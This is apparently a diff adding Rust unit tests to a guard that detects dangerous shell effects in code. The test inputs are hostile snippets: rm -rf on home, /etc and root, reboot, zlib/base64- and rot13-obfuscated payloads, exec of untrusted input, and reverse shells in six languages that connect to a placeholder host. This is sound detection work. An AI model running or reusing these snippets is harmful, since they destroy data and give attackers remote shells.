@@ -176,9 +176,8 @@ static IDENT: Lazy<Regex> =
     Lazy::new(|| Regex::new(r"[A-Za-z_$][A-Za-z0-9_$]*").expect("identifier regex is valid"));
 
 /// Names where `$` is a sigil, not a letter (Perl's `system$_`).
-static SIGIL_IDENT: Lazy<Regex> = Lazy::new(|| {
-    Regex::new(r"[A-Za-z_$@][A-Za-z0-9_]*").expect("sigil identifier regex is valid")
-});
+static SIGIL_IDENT: Lazy<Regex> =
+    Lazy::new(|| Regex::new(r"[A-Za-z_$@][A-Za-z0-9_]*").expect("sigil identifier regex is valid"));
 
 fn read_code(code: &str, lang: Lang, depth: usize, decoded: bool) -> Reading {
     let lexed = lex::lex(code, lang.dialect());
@@ -538,5 +537,136 @@ mod tests {
                 decoded: true
             }]
         );
+    }
+
+    fn concerns(program: &str, code: &str) -> Vec<Concern> {
+        read_as(program, code)
+            .concerns
+            .into_iter()
+            .map(|(c, _)| c)
+            .collect()
+    }
+
+    #[test]
+    fn languages_beyond_the_first_five() {
+        assert_eq!(shell("julia", "run(`rm -rf $(homedir())`)"), ["rm -rf ~"]);
+        assert_eq!(
+            shell("julia", "d = \"/etc\"; run(`rm -rf $d`)"),
+            ["rm -rf /etc"]
+        );
+        assert_eq!(
+            shell("go", "exec.Command(\"rm\", \"-rf\", \"/usr\").Run()"),
+            ["'rm' '-rf' '/usr'"]
+        );
+        assert_eq!(
+            shell(
+                "jshell",
+                "Runtime.getRuntime().exec(new String[]{\"sh\", \"-c\", \"reboot\"})"
+            ),
+            ["'sh' '-c' 'reboot'"]
+        );
+        assert_eq!(
+            shell(
+                "jshell",
+                "new ProcessBuilder(List.of(\"rm\", \"x\")).start()"
+            ),
+            ["'rm' 'x'"]
+        );
+        assert_eq!(
+            shell("rscript", "system2(\"rm\", c(\"-rf\", \"~\"))"),
+            ["rm -rf ~"]
+        );
+        assert_eq!(shell("tclsh", "exec reboot"), ["'reboot'"]);
+    }
+
+    #[test]
+    fn home_stays_home_in_command_words() {
+        assert_eq!(
+            shell(
+                "python3",
+                "subprocess.run(['rm', '-rf', os.path.expanduser('~/x')])"
+            ),
+            ["'rm' '-rf' ~'/x'"]
+        );
+        // A `~` the code wrote is a file named `~` to a program run without a shell.
+        assert_eq!(
+            shell("python3", "subprocess.run(['rm', '-rf', '~'])"),
+            ["'rm' '-rf' '~'"]
+        );
+    }
+
+    #[test]
+    fn decompressed_and_rot13_code() {
+        let zlib = "import zlib,base64; exec(zlib.decompress(base64.b64decode('eJwrylXQLUpT0AcAC50CVA==')))";
+        assert!(effects("python3", zlib).is_empty());
+        let zlib = "import zlib,base64,os; os.system(zlib.decompress(base64.b64decode('eJwrylXQLUpT0AcAC50CVA==')).decode())";
+        assert_eq!(shell("python3", zlib), ["rm -rf /"]);
+        assert_eq!(
+            shell("php", "eval(str_rot13('flfgrz(\"erobbg\");'));"),
+            ["reboot"]
+        );
+        assert_eq!(
+            concerns("python3", "exec(zlib.decompress(sys.stdin.buffer.read()))"),
+            [Concern::EvalDecoded]
+        );
+        // Code the guard cannot read, but not decoded: nothing to say alone.
+        assert!(concerns("python3", "exec(open('setup.py').read())").is_empty());
+    }
+
+    #[test]
+    fn unknown_programs_ask_where_a_program_surely_runs() {
+        for (program, code) in [
+            ("python3", "import os,sys; os.system(sys.argv[1])"),
+            (
+                "python3",
+                "import subprocess,sys; subprocess.run(sys.argv[1:])",
+            ),
+            (
+                "python3",
+                "from subprocess import check_output as co; co(input())",
+            ),
+            ("node", "require('child_process').execSync(process.argv[2])"),
+            ("ruby", "system(ARGV[0])"),
+            ("perl", "system$_ while <>"),
+            ("php", "passthru($argv[1]);"),
+            ("lua", "os.execute(arg[1])"),
+            ("rscript", "system(commandArgs(TRUE)[1])"),
+            ("go", "exec.Command(os.Args[1]).Run()"),
+        ] {
+            assert_eq!(
+                concerns(program, code),
+                [Concern::DynamicCommand],
+                "{program}: {code}"
+            );
+        }
+        for (program, code) in [
+            ("python3", "import asyncio; asyncio.run(main())"),
+            ("python3", "app.run(debug=True)"),
+            ("node", "/x/.exec(s)"),
+            ("python3", "system(x)"),
+        ] {
+            assert!(concerns(program, code).is_empty(), "{program}: {code}");
+        }
+    }
+
+    #[test]
+    fn sockets_that_run_what_they_receive() {
+        for (program, code) in [
+            ("lua", "local s=require('socket'); local t=s.tcp(); t:connect('h',1); while true do local r=t:receive(); io.popen(r) end"),
+            ("node", "require('net').connect(1,'h').on('data',d=>require('child_process').exec(d.toString()))"),
+            ("python3", "import socket; s=socket.create_connection(('h',1)); exec(s.recv(99))"),
+            ("rscript", "con <- socketConnection(host='h', port=1); system(readLines(con, 1))"),
+            ("go", "c, _ := net.Dial(\"tcp\", \"h:1\"); cmd := exec.Command(\"/bin/sh\"); cmd.Stdin = c"),
+            ("tclsh", "set s [socket h 1]; exec sh <@ $s >@ $s"),
+        ] {
+            assert!(
+                effects(program, code).contains(&Action::ReverseShell),
+                "{program}: {code}"
+            );
+        }
+        let check = "import socket; s = socket.create_connection(('db', 5432)); s.close()";
+        assert!(!effects("python3", check).contains(&Action::ReverseShell));
+        let client = "require('net').connect(80, 'h', () => console.log('up'))";
+        assert!(!effects("node", client).contains(&Action::ReverseShell));
     }
 }
